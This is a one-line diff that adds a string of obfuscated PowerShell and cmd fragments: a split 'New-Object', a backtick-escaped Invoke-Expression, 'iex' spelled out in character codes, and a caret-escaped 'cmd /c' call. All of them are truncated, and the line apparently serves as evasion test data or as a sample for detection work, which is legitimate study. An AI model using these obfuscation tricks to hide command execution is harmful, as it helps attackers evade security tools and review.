@@ -1,0 +1,1 @@
+$a = 'Ne'+'w-O'+'bje'+'ct'+' N'; I`nv`o`ke-Ex`pr; [char]105+[char]101+[char]120+[char]0x20; c^m^d^/^c^ ^a
